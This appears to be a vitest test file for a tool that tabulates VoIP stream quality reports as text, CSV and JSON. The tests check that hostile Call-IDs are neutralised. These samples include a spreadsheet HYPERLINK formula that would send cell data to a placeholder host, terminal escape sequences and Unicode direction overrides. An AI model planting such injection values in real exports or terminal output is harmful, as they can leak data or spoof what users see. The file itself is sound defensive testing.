/**
 * The replay's closing table: hundreds of thousands of streams (spreading every row into one call such as
 * Math.max overflows the stack past ~125,000 rows), formats, selection, and hostile Call-IDs.
 */
import { describe, expect, it } from 'vitest';
import { StreamTable, formatStreamTable } from '../../src/pipeline/index.js';
import type { QosReport } from '../../src/report/index.js';

function report(i: number, over: Partial<QosReport> = {}): QosReport {
  return {
    TYPE: 'FINAL',
    SRC_IP: `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`,
    SRC_PORT: 10000 + (i % 50000),
    DST_IP: '192.0.2.1',
    DST_PORT: 20000,
    SSRC: i,
    CODEC_NAME: 'pcma',
    TOTAL_PK: 250,
    EXPECTED_PK: 250,
    PACKET_LOSS: 0,
    MAX_DELTA: 20.5,
    MEAN_JITTER: 0.25,
    MAX_JITTER: 1.5,
    MAX_SKEW: -0.5,
    MOS: 4.41,
    CORRELATION_ID: `call-${i >> 1}@example.net`,
    ...over,
  } as QosReport;
}

describe('StreamTable', () => {
  it('300,000 streams: every row written, in pieces, columns aligned', async () => {
    const t = new StreamTable();
    // The million-stream replay itself is run by command (README); here the table alone, well past 125,000.
    const n = 300_000;
    for (let i = 0; i < n; i++) t.add(report(i));
    let lines = 0;
    let pieces = 0;
    let width = -1;
    let aligned = true;
    let maxPiece = 0;
    await t.write('text', (text) => {
      pieces++;
      maxPiece = Math.max(maxPiece, text.length);
      for (const l of text.split('\n')) {
        if (l === '') continue;
        lines++;
        // Every row ends with its Call-ID column: the MOS column ends at the same place in each.
        const at = l.indexOf('4.41  call-');
        if (at >= 0) {
          if (width < 0) width = at;
          else if (at !== width) aligned = false;
        }
      }
    });
    expect(lines).toBe(n + 1);
    expect(aligned).toBe(true);
    expect(pieces).toBeGreaterThan(100);
    expect(maxPiece).toBeLessThan(1 << 20);
  });

  it('CSV and JSON carry the same rows; IPv6 endpoints are bracketed', () => {
    const t = new StreamTable();
    t.add(report(1, { SRC_IP: '2001:db8::1', CORRELATION_ID: 'a,"b"' }));
    const csv = [...t.chunks('csv')].join('').split('\n');
    expect(csv[1]).toBe('[2001:db8::1]:10001,192.0.2.1:20000,0x00000001,pcma,250,0 (0.0%),20.500,0.250,1.500,-0.500,4.41,"a,""b"""');
    const json = JSON.parse([...t.chunks('json')].join('')) as Array<Record<string, unknown>>;
    expect(json).toEqual([
      { src: '[2001:db8::1]:10001', dst: '192.0.2.1:20000', ssrc: '0x00000001', codec: 'pcma', packets: 250, lost: 0, lossPct: 0, maxDeltaMs: 20.5, meanJitterMs: 0.25, maxJitterMs: 1.5, maxSkewMs: -0.5, mos: 4.41, callId: 'a,"b"' },
    ]);
    expect([...new StreamTable().chunks('json')].join('')).toBe('[]\n');
  });

  it('CSV: text from the wire that a spreadsheet would take for a formula is marked as text; numbers and JSON as they are', () => {
    const t = new StreamTable();
    t.add(report(1, { CORRELATION_ID: '=HYPERLINK("http://x.example/?"&A1,"open")', CODEC_NAME: '+cmd' }));
    t.add(report(2, { CORRELATION_ID: '@SUM(1+1)', CODEC_NAME: '-pcma' }));
    t.add(report(3, { CORRELATION_ID: 'plain=@x' }));
    const csv = [...t.chunks('csv')].join('').split('\n');
    expect(csv[1]).toBe(`10.0.0.1:10001,192.0.2.1:20000,0x00000001,'+cmd,250,0 (0.0%),20.500,0.250,1.500,-0.500,4.41,"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`);
    expect(csv[2]).toBe("10.0.0.2:10002,192.0.2.1:20000,0x00000002,'-pcma,250,0 (0.0%),20.500,0.250,1.500,-0.500,4.41,'@SUM(1+1)");
    expect(csv[3]!.endsWith(',plain=@x')).toBe(true);
    const json = JSON.parse([...t.chunks('json')].join('')) as Array<Record<string, unknown>>;
    expect(json.map((r) => [r.codec, r.callId])).toEqual([['+cmd', '=HYPERLINK("http://x.example/?"&A1,"open")'], ['-pcma', '@SUM(1+1)'], ['pcma', 'plain=@x']]);
  });

  it('selection: Call-IDs, MOS below, loss above (either threshold)', () => {
    const t = new StreamTable({ mosBelow: 3.6, lossAbovePct: 2 });
    t.add(report(1));
    t.add(report(2, { MOS: 3.1 }));
    t.add(report(3, { PACKET_LOSS: 10, EXPECTED_PK: 250 }));
    t.add(report(4, { MOS: 0 })); // too short for a MOS: not "worse"
    expect(t.size).toBe(2);
    const byCall = new StreamTable({ callIds: ['call-1@example.net'] });
    for (let i = 0; i < 6; i++) byCall.add(report(i));
    expect(byCall.size).toBe(2);
    const none = new StreamTable({ callIds: ['nope'] });
    none.add(report(1));
    expect([...none.chunks('text')].join('')).toBe('no stream matches the selection (1 streams in all)\n');
  });

  it('a Call-ID with terminal escapes cannot reach the terminal raw', () => {
    const text = formatStreamTable([report(1, { CORRELATION_ID: 'evil\u001b[2J\u0007' })]);
    expect(text).toContain('evil\\x1b[2J\\x07');
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
  });

  it('a codec name or Call-ID with Unicode direction overrides cannot reorder the row: shown as code points', () => {
    // U+202E (right-to-left override) in the codec column would show the numbers after it reversed.
    const text = formatStreamTable([report(1, { CODEC_NAME: 'pc\u202ema', CORRELATION_ID: 'a\u2066b\u200bc\u2028d' })]);
    expect(text).toContain('pc\\u{202e}ma');
    expect(text).toContain('a\\u{2066}b\\u{200b}c\\u{2028}d');
    expect(text).not.toMatch(/[\u200b-\u200f\u2028-\u202e\u2066-\u2069]/);
  });
});
